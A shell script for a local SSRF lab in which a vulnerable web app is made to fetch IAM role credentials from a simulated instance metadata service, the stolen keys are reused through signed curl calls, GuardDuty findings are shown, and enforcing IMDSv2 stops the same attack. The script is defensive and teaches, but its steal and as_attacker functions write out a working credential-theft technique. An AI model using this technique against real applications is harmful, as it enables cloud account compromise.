#!/bin/sh
# The SSRF lab: role credentials are stolen from an instance through a hole in its web app, used elsewhere, noticed, and
# after one command the same attack fails. Everything runs on this machine, on addresses of its loopback network (Linux).
#
#   examples/ssrf-lab/lab.sh
#
# Needs node, curl and the AWS CLI. Ends with 0 if everything went as it says.
set -eu

lab=$(cd "$(dirname "$0")" && pwd)
node=${NODE:-node}
work=$(mktemp -d)
instance=i-0123456789abcdef0
attacker=127.0.0.66
pids=
trap 'for pid in $pids; do kill "$pid" 2>/dev/null || :; done; rm -rf "$work"' EXIT
trap 'exit 1' INT TERM

step() { printf '\n== %s\n' "$*"; }
say() { printf '   %s\n' "$*"; }
fail() { printf '\nNOT AS EXPECTED: %s\n' "$*" >&2; exit 1; }
# A member of a JSON object on stdin.
member() { "$node" -e 'process.stdout.write(String(process.argv.slice(1).reduce((value, name) => value[name], JSON.parse(require("fs").readFileSync(0, "utf8")))))' "$@"; }
# The first line a program prints, once it is there.
first_line() {
  for _ in $(seq 600); do
    [ "$(wc -l <"$1")" -gt 0 ] && { head -n 1 "$1"; return; }
    sleep 0.1
  done
  fail "nothing came of $1: $(cat "$work/errors")"
}
shown() { sed 's/^/   /'; }
# What the attacker sees of credentials, without the secrets.
masked() { sed -E 's/("(SecretAccessKey|Token)" : ")[^"]{4}[^"]*/\1…/' | shown; }

step 'An instance with IMDSv1 enabled, and its web app'
"$node" "$lab/../../bin/openimds.js" up --ephemeral --port 0 --api-port 0 --json --config "$lab/openimds.yaml" \
  >"$work/openimds" 2>"$work/errors" &
pids="$pids $!"
"$node" "$lab/app.js" >"$work/app" 2>>"$work/errors" &
pids="$pids $!"
ready=$(first_line "$work/openimds")
app=$(first_line "$work/app")
imds=$(printf %s "$ready" | member imds url)
api=$(printf %s "$ready" | member api url)
region=$(printf %s "$ready" | member region)
say "web app of $instance:  $app/?url=…"
say "metadata service:              $imds   (169.254.169.254 on EC2)"
say "AWS API:                       $api"

# The owner of the account.
AWS_ACCESS_KEY_ID=$(printf %s "$ready" | member credentials accessKeyId)
AWS_SECRET_ACCESS_KEY=$(printf %s "$ready" | member credentials secretAccessKey)
export AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_DEFAULT_REGION="$region" AWS_PAGER=
exec 3>&1
# The owner runs the AWS CLI; the command is shown even where its output is put away.
owner() { printf '   $ aws' >&3; printf ' %s' "$@" >&3; printf '\n' >&3; quietly "$@"; }
quietly() { aws --endpoint-url "$api" "$@"; }

roles=$imds/latest/meta-data/iam/security-credentials/
# The attack: the attacker asks the web app, and the web app asks the metadata service.
steal() { curl --silent --interface "$attacker" --write-out '\n%{http_code}' --get --data-urlencode "url=$1" "$app/"; }
# A signed API call from the attacker's own address, with what was stolen.
as_attacker() {
  curl --silent --interface "$attacker" --aws-sigv4 "aws:amz:$region:$1" --user "$key:$secret" \
    --header "x-amz-security-token: $token" --data "$2" "$api/"
}

step 'The attack: the app is made to read the role credentials of its instance'
say "\$ curl '$app/?url=$roles'"
answer=$(steal "$roles")
[ "${answer##*
}" = 200 ] || fail "the role could not be read: $answer"
role=${answer%
*}
say "$role"
say "\$ curl '$app/?url=$roles$role'"
answer=$(steal "$roles$role")
[ "${answer##*
}" = 200 ] || fail "the credentials could not be read: $answer"
stolen=${answer%
*}
printf '%s\n' "$stolen" | masked
key=$(printf %s "$stolen" | member AccessKeyId)
secret=$(printf %s "$stolen" | member SecretAccessKey)
token=$(printf %s "$stolen" | member Token)

step "The attacker uses them from $attacker: the API takes them"
say '$ aws sts get-caller-identity'
identity=$(as_attacker sts 'Action=GetCallerIdentity&Version=2011-06-15')
printf '%s\n' "$identity" | grep -o '<Arn>[^<]*' | shown
printf %s "$identity" | grep -q ":assumed-role/web-role/$instance" || fail "the credentials were not taken: $identity"
say '$ aws ec2 describe-instances'
as_attacker ec2 'Action=DescribeInstances&Version=2016-11-15' | grep -o '<instanceId>[^<]*' | shown

step 'What the owner is told'
detector=$(quietly guardduty list-detectors --query 'DetectorIds[0]' --output text)
ids=$(quietly guardduty list-findings --detector-id "$detector" --query 'FindingIds' --output text)
# shellcheck disable=SC2086 -- ids are words
found=$(owner guardduty get-findings --detector-id "$detector" --finding-ids $ids \
  --sort-criteria AttributeName=severity,OrderBy=DESC --query 'Findings[].[Severity,Type,Title]' --output text)
printf '%s\n' "$found" | shown
for type in InstanceCredentialExfiltration.OutsideAWS InstanceMetadataRequestForgery InstanceMetadataV1Use; do
  printf %s "$found" | grep -q "$type" || fail "there is no finding of $type"
done

step 'One command'
owner ec2 modify-instance-metadata-options --instance-id "$instance" --http-tokens required \
  --query 'InstanceMetadataOptions.HttpTokens' --output text | shown
until [ "$(quietly ec2 describe-instances --instance-ids "$instance" \
  --query 'Reservations[0].Instances[0].MetadataOptions.State' --output text)" = applied ]; do sleep 0.1; done

step 'The same attack'
say "\$ curl '$app/?url=$roles$role'"
answer=$(steal "$roles$role")
status=${answer##*
}
say "HTTP $status"
[ "$status" = 401 ] || fail "the attack should have been refused: $answer"
case $answer in *SecretAccessKey*) fail 'credentials were given out' ;; esac

step 'Done'
say 'A session token takes a PUT and a header. The app can be made to send neither.'
say 'What was stolen before is valid until it expires: take the sessions of the role away, too.'
